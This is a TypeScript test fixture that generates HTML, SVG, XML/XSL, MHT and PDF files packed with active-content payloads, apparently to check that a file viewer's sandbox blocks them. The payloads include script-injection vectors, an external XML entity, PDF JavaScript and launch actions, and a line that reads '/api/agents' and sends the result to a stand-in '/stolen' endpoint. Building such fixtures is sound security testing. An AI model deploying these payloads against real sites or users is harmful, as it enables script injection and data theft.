/** Files that do all that a file can in a browser: each tries to run, to ask, to send, to open and to lead away. */
import { Buffer } from 'node:buffer';
import { gzipSync } from 'node:zlib';

const SCRIPT = (other: string, name: string) => `
  document.title = 'ran'; globalThis.ran = 1;
  try { localStorage.setItem('ran', '1'); document.cookie = 'ran=1'; } catch (e) {}
  try { top.document.title = 'ran'; } catch (e) {}
  try { fetch('/api/agents').then((r) => r.text()).then((text) => fetch('${other}/stolen?' + text.length)); } catch (e) {}
  try { fetch('${other}/${name}/fetch'); new Image().src = '${other}/${name}/image'; navigator.sendBeacon('${other}/${name}/beacon'); } catch (e) {}
  try { new WebSocket('${other.replace('http', 'ws')}/${name}/socket'); } catch (e) {}
  try { open('${other}/${name}/open'); } catch (e) {}
  try { parent.postMessage('ran', '*'); opener.postMessage('ran', '*'); } catch (e) {}
  try { top.location = '${other}/${name}/top'; } catch (e) {}`;

const STYLE = (other: string, name: string) => `
  @import url("${other}/${name}/import.css");
  @font-face { font-family: far; src: url("${other}/${name}/font.woff2"); }
  * { font-family: far; background-image: url("${other}/${name}/background.png"); cursor: url("${other}/${name}/cursor.png"), auto; }
  a { list-style: url("${other}/${name}/list.png"); }`;

/** What HTML has, well formed, so that it is XHTML and may stand in SVG too. */
const body = (other: string, name: string) => `
  <link rel="stylesheet" href="${other}/${name}/link.css"/><link rel="preconnect" href="${other}"/>
  <link rel="prefetch" href="${other}/${name}/prefetch"/><link rel="preload" as="image" href="${other}/${name}/preload.png"/>
  <link rel="modulepreload" href="${other}/${name}/module.js"/><link rel="icon" href="${other}/${name}/icon.png"/>
  <meta http-equiv="refresh" content="0;url=${other}/${name}/refresh"/>
  <style>${STYLE(other, name)}</style>
  <script src="${other}/${name}/script.js"></script><script>//<![CDATA[
  ${SCRIPT(other, name)}
  //]]></script>
  <img src="${other}/${name}/img.png" onerror="document.title='ran'" alt=""/>
  <img src="/api/agents" onerror="document.title='ran'" alt=""/>
  <iframe src="${other}/${name}/frame"></iframe><iframe srcdoc="&lt;script&gt;top.document.title='ran'&lt;/script&gt;"></iframe>
  <object data="${other}/${name}/object"></object><embed src="${other}/${name}/embed"/>
  <video src="${other}/${name}/video" poster="${other}/${name}/poster.png" autoplay="autoplay"></video>
  <audio src="${other}/${name}/audio" autoplay="autoplay"></audio>
  <form id="form" method="post" action="${other}/${name}/form"><input name="x" autofocus="autofocus" onfocus="form.submit()"/></form>
  <details open="open" ontoggle="document.title='ran'"><summary>x</summary></details>
  <a href="javascript:document.title='ran'" ping="${other}/${name}/ping" style="position:fixed;inset:0">words</a>`;

const html = (other: string, name: string) =>
  `<!doctype html><html><head><base href="${other}/"/></head><body onload="document.title='ran'">
  ${body(other, name)}</body></html>`;

const xhtml = (other: string, name: string) =>
  `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${other}/${name}/sheet.css"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>words</title></head><body onload="document.title='ran'">${
    body(other, name)
  }</body></html>`;

const svg = (other: string, name: string) =>
  `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${other}/${name}/sheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80" onload="document.title='ran'">
  <defs><style>${STYLE(other, name)}</style><filter id="f"><feImage href="${other}/${name}/filter.png"/></filter></defs>
  <rect width="80" height="80" fill="teal" filter="url(${other}/${name}/far.svg#f)"/><rect width="9" height="9" filter="url(#f)"/>
  <use href="${other}/${name}/use.svg#a"/><use xlink:href="${other}/${name}/xlink-use.svg#a"/>
  <image href="${other}/${name}/image.png" width="9" height="9"/><image xlink:href="${other}/${name}/xlink.png" width="9" height="9"/>
  <script href="${other}/${name}/script.js"/><script><![CDATA[${SCRIPT(other, name)}]]></script>
  <a href="javascript:document.title='ran'"><text y="40">words</text></a>
  <set attributeName="onmouseover" to="document.title='ran'" begin="0s"/>
  <animate attributeName="href" values="javascript:document.title='ran'" begin="0s"/>
  <foreignObject width="80" height="80"><body xmlns="http://www.w3.org/1999/xhtml">${
    body(other, name)
  }</body></foreignObject>
</svg>`;

/** A stylesheet that makes HTML of the file: beside it, on our origin, and elsewhere. */
const xml = (other: string, name: string, agent: string) =>
  `<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="${other}/${name}/far.xsl"?>
<?xml-stylesheet type="text/xsl" href="/api/agents/${agent}/files/content?path=style.xsl"?>
<!DOCTYPE data [<!ENTITY far SYSTEM "${other}/${name}/entity.txt">]>
<data>&far;</data>`;
const xsl = (other: string, name: string) =>
  `<?xml version="1.0"?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${other}/${name}/import.xsl"/>
<xsl:template match="/"><html><body><script><![CDATA[${
    SCRIPT(other, name)
  }]]></script></body></html></xsl:template></xsl:stylesheet>`;

const mht = (other: string, name: string) =>
  [
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; type="text/html"; boundary="part"',
    '',
    '--part',
    'Content-Type: text/html',
    'Content-Location: http://saved/',
    '',
    html(other, name),
    '--part--',
    '',
  ].join('\r\n');

/** A document of one page whose catalog, page and annotation have the action. */
function pdf(action: string): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O ${action} >> /Annots [4 0 R] >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /Border [0 0 0] /A ${action} /AA << /PO ${action} /E ${action} >> >>`,
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  text +=
    `xref\n0 5\n0000000000 65535 f \n${table}trailer << /Size 5 /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}
const pdfScript = (other: string, name: string) =>
  pdf(
    `<< /S /JavaScript /JS (try { this.submitForm\\("${other}/${name}/form"\\); } catch (e) {} ` +
      `try { app.launchURL\\("${other}/${name}/launch", true\\); } catch (e) {} ` +
      `try { this.getURL\\("${other}/${name}/url"\\); } catch (e) {}) >>`,
  );

/** Each by its file's name. @param other the origin that nothing may ask @param agent whose files they are */
export function activeFiles(other: string, agent: string): Record<string, string | Buffer> {
  const of = <T>(name: string, make: (other: string, name: string) => T): [string, T] => [name, make(other, name)];
  return Object.fromEntries<string | Buffer>([
    of('page.html', html),
    of('PAGE.HTM', html),
    of('page.xhtml', xhtml),
    of('page.shtml', html),
    of('words.txt', html),
    of('words', html),
    of('page.mht', mht),
    of('notes.md', (other, name) => `# Notes\n\n${html(other, name)}\n`),
    of('drawing.svg', svg),
    of('DRAWING.SVG', svg),
    of('packed.svgz', (other, name) => gzipSync(svg(other, name))),
    of('picture.png', svg),
    of('data.xml', (other, name) => xml(other, name, agent)),
    of('style.xsl', xsl),
    of('script.pdf', pdfScript),
    of('link.pdf', (other, name) => pdf(`<< /S /URI /URI (${other}/${name}/uri) >>`)),
    of('launch.pdf', (other, name) => pdf(`<< /S /Launch /F << /FS /URL /F (${other}/${name}/file) >> >>`)),
    of(
      'submit.pdf',
      (other, name) => pdf(`<< /S /SubmitForm /F << /FS /URL /F (${other}/${name}/submit) >> /Flags 4 >>`),
    ),
    of('page.pdf', html),
  ]);
}
